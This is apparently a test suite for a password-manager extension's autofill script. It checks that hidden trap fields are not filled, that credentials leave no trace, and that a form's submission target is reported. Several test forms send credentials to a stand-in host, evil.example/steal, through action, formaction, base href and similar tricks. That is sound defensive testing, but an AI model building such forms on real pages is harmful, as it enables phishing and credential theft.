import type { ServerResponse } from "node:http";
import type { Page } from "puppeteer";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type Answer, type Lab, openLab } from "./extension.ts";

let lab: Lab;
beforeAll(async () => {
  lab = await openLab();
});
afterAll(() => lab.close());

const values = { username: "CANARY-u-1", "current-password": "CANARY-p-1" };
const signIn: Answer = { purpose: "sign-in", values, submit: false };

const form = (inner: string, attributes = 'action="in" method="post"') =>
  `<!doctype html><title>Sign in</title><form ${attributes}>${inner}<button>Sign in</button></form>`;
const user = '<label>User name <input name="user"></label>';
const password = '<label>Password <input name="pass" type="password"></label>';

/** Opens `html` with `answer` prepared, and waits until the content script says how the fill went. */
async function filledPage(
  html: string,
  answer: Answer,
): Promise<{ page: Page; filled: number; refused: number }> {
  await lab.prepare(answer);
  const page = await lab.browser.newPage();
  await page.goto(lab.serve(html));
  const last = async () => (await lab.told()).findLast((one) => one.method === "page.filled");
  await expect.poll(last).toBeDefined();
  const told = await last();
  return { page, filled: told?.filled ?? 0, refused: told?.refused ?? 0 };
}

const valuesOf = (page: Page) =>
  page.$$eval("input", (inputs) =>
    Object.fromEntries(inputs.map((input) => [input.name, input.value])),
  );

describe("fields that are read-only till they get the focus", () => {
  const shut = (inner: string) => form(inner).replaceAll("<input ", "<input readonly ");
  const opening = `<script>for (const input of document.querySelectorAll("input")) {
    input.addEventListener("focus", () => { input.readOnly = false; });
    input.addEventListener("blur", () => { input.readOnly = true; });
  }</script>`;

  test("open for the fill as they do for a person", async () => {
    const { page, filled } = await filledPage(`${shut(user + password)}${opening}`, signIn);
    expect(filled).toBe(2);
    expect(await valuesOf(page)).toEqual({ user: "CANARY-u-1", pass: "CANARY-p-1" });
    await page.close();
  });

  test("stay empty where they do not open", async () => {
    const { page, filled, refused } = await filledPage(shut(user + password), signIn);
    expect([filled, refused]).toEqual([0, 2]);
    expect(await valuesOf(page)).toEqual({ user: "", pass: "" });
    await page.close();
  });
});

describe("a plain sign-in form", () => {
  test("gets username and password by itself, and nothing else does", async () => {
    const { page } = await filledPage(
      form(`${user}${password}<input name="other" aria-label="Notes">`),
      signIn,
    );
    expect(await valuesOf(page)).toEqual({ user: "CANARY-u-1", pass: "CANARY-p-1", other: "" });
    await page.close();
  });

  test("leaves no trace of the values but in the fields (SEC-22)", async () => {
    const said: string[] = [];
    await lab.prepare(signIn);
    const page = await lab.browser.newPage();
    page.on("console", (message) => said.push(message.text()));
    await page.goto(lab.serve(form(user + password)));
    await page.waitForFunction(
      () => document.querySelector<HTMLInputElement>("[name=pass]")?.value !== "",
    );
    const traces = await page.evaluate(() =>
      JSON.stringify([
        document.documentElement.outerHTML,
        location.href,
        document.title,
        { ...localStorage },
        { ...sessionStorage },
      ]),
    );
    expect(traces).not.toContain("CANARY");
    expect(said.join()).not.toContain("CANARY");
    await page.close();
  });

  test("is not sent unless the background says so", async () => {
    const { page } = await filledPage(form(user + password), signIn);
    expect(page.url()).toMatch(/\/p\d+\/$/);
    await page.close();
  });

  test("is sent by its button where the background says so", async () => {
    await lab.prepare({ ...signIn, submit: true });
    const page = await lab.browser.newPage();
    const served = (path: string, response: ServerResponse) =>
      void response
        .writeHead(200, { "content-type": "text/html" })
        .end(path === "in" ? "<p>Welcome" : form(user + password));
    await page.goto(lab.serve(served));
    await page.waitForFunction(() => location.pathname.endsWith("/in"), { timeout: 10_000 });
    await page.close();
  });

  test("gets nothing where the background releases nothing", async () => {
    await lab.prepare(null);
    const page = await lab.browser.newPage();
    await page.goto(lab.serve(form(user + password)));
    await expect.poll(async () => (await lab.told()).length).toBeGreaterThan(0);
    expect(await valuesOf(page)).toEqual({ user: "", pass: "" });
    await page.close();
  });
});

describe("what a person sees is what gets values (SEC-13)", () => {
  const traps = [
    '<input name="t1" aria-label="User name" style="display:none">',
    '<input name="t2" aria-label="User name" style="visibility:hidden">',
    '<input name="t3" aria-label="User name" style="opacity:0">',
    '<input name="t4" aria-label="User name" style="opacity:.05">',
    '<input name="t5" aria-label="User name" style="width:0;height:0;padding:0;border:0">',
    '<input name="t6" aria-label="User name" style="width:1px;height:1px;padding:0;border:0">',
    '<input name="t7" aria-label="User name" style="position:absolute;left:-9999px">',
    '<input name="t8" aria-label="User name" style="position:absolute;clip:rect(0,0,0,0)">',
    '<input name="t9" aria-label="User name" style="clip-path:inset(100%)">',
    '<div style="height:0;overflow:hidden"><input name="t10" aria-label="User name"></div>',
    '<input name="t11" aria-label="User name" hidden>',
    '<div inert><input name="t12" aria-label="User name"></div>',
    '<div style="position:relative"><input name="t13" type="password" aria-label="Password"><div style="position:absolute;inset:0;background:white"></div></div>',
    '<input name="t14" type="hidden">',
    '<div aria-hidden="true" style="position:absolute;top:-900px"><input name="t15" type="password"></div>',
    '<input name="t16" autocomplete="cc-number" aria-label="Card number"><input name="t17" autocomplete="street-address" aria-label="Address">',
  ];
  test("of two visible fields and seventeen traps, the two", async () => {
    const { page, filled } = await filledPage(form(traps.join("") + user + password), signIn);
    const held = await valuesOf(page);
    expect(filled).toBe(2);
    expect(Object.entries(held).filter(([, value]) => value !== "")).toEqual([
      ["user", "CANARY-u-1"],
      ["pass", "CANARY-p-1"],
    ]);
    await page.close();
  });
});

describe("what is in a field already", () => {
  test("stays, and the rest of the form stays as it is too", async () => {
    const { page, filled } = await filledPage(
      form(`<label>User name <input name="user" value="somebody"></label>${password}`),
      signIn,
    );
    expect(filled).toBe(0);
    expect(await valuesOf(page)).toEqual({ user: "somebody", pass: "" });
    await page.close();
  });

  test("is replaced where a person chose the record", async () => {
    const { page } = await filledPage(
      form(`<label>User name <input name="user" value="somebody"></label>${password}`),
      signIn,
    );
    await page.bringToFront();
    const key = (await lab.told()).find((one) => one.method === "page.forms")?.forms[0]?.key;
    const reply = await lab.push("page.fill", { formKey: key, values, submit: false });
    expect(reply).toMatchObject({ result: { filled: 2, refused: 0 } });
    expect(await valuesOf(page)).toEqual({ user: "CANARY-u-1", pass: "CANARY-p-1" });
    await page.close();
  });
});

describe("a field with a length", () => {
  test("takes no value that it would cut short", async () => {
    const { page, refused } = await filledPage(
      form(`<label>User name <input name="user" maxlength="4"></label>${password}`),
      signIn,
    );
    expect(refused).toBe(1);
    expect(await valuesOf(page)).toEqual({ user: "", pass: "CANARY-p-1" });
    await page.close();
  });
});

describe("a one-time code", () => {
  const code: Answer = {
    purpose: "one-time-code",
    values: { "one-time-code": "493027" },
    submit: false,
  };
  const box = (name: string) => `<input name="${name}" maxlength="1" inputmode="numeric">`;

  test("goes into one field", async () => {
    const { page } = await filledPage(
      form('<label>Authentication code <input name="code" maxlength="6"></label>'),
      code,
    );
    expect(await valuesOf(page)).toEqual({ code: "493027" });
    await page.close();
  });

  test("goes into a field for each digit, though the page moves the focus on", async () => {
    const mover = `<script>document.addEventListener("input", (event) => event.target.nextElementSibling?.focus());</script>`;
    const { page, filled } = await filledPage(
      form(
        `<h1>Enter your verification code</h1>${["a", "b", "c", "d", "e", "f"].map(box).join("")}`,
      ) + mover,
      code,
    );
    expect(filled).toBe(6);
    expect(Object.values(await valuesOf(page)).join("")).toBe("493027");
    await page.close();
  });

  test("goes nowhere where there are fewer boxes than digits", async () => {
    const { page, filled } = await filledPage(
      form(`<h1>Enter your verification code</h1>${["a", "b", "c", "d"].map(box).join("")}`),
      code,
    );
    expect(filled).toBe(0);
    expect(Object.values(await valuesOf(page)).join("")).toBe("");
    await page.close();
  });

  test("is taken by a field that puts a space in the middle", async () => {
    const mask = `<script>document.querySelector("[name=code]").addEventListener("input", ({ target }) => {
      const digits = target.value.replace(/\\D/g, "").slice(0, 6);
      target.value = digits.length > 3 ? digits.slice(0, 3) + " " + digits.slice(3) : digits;
    });</script>`;
    const { page, filled } = await filledPage(
      form('<label>Authentication code <input name="code"></label>') + mask,
      code,
    );
    expect(filled).toBe(1);
    expect(await valuesOf(page)).toEqual({ code: "493 027" });
    await page.close();
  });
});

describe("where a form sends what is in it (SEC-11)", () => {
  const reported = async (html: string) => {
    await lab.prepare(null);
    const page = await lab.browser.newPage();
    const address = lab.serve(html);
    await page.goto(address);
    const forms = async () =>
      (await lab.told()).find((one) => one.method === "page.forms")?.forms[0];
    await expect.poll(forms).toBeDefined();
    const found = await forms();
    await page.close();
    return {
      action: found?.action,
      method: found?.method,
      targetsOtherFrame: found?.targetsOtherFrame,
    };
  };
  const evil = { action: "https://evil.example/steal", method: "post", targetsOtherFrame: false };

  test.each([
    [
      "its action",
      form(user + password, 'action="https://evil.example/steal" method="post"'),
      evil,
    ],
    [
      "its button's formaction",
      form(user + password, 'action="/in" method="post"').replace(
        "<button>",
        '<button formaction="https://evil.example/steal">',
      ),
      evil,
    ],
    [
      "the page's base",
      `<base href="https://evil.example/">${form(user + password, 'action="steal" method="post"')}`,
      evil,
    ],
    [
      "an action that a field's name hides",
      form(
        `${user}${password}<input type="hidden" name="action" value="/in">`,
        'action="https://evil.example/steal" method="post"',
      ),
      evil,
    ],
    [
      "the address, by GET",
      form(user + password, 'action="https://evil.example/steal" method="get"'),
      { ...evil, method: "get" },
    ],
    [
      "another frame",
      form(user + password, 'action="https://evil.example/steal" method="post" target="other"'),
      { ...evil, targetsOtherFrame: true },
    ],
    [
      "a script",
      form(user + password, ""),
      { action: null, method: "post", targetsOtherFrame: false },
    ],
  ])("is reported: %s", async (_, html, expected) => {
    expect(await reported(html)).toEqual(expected);
  });
});
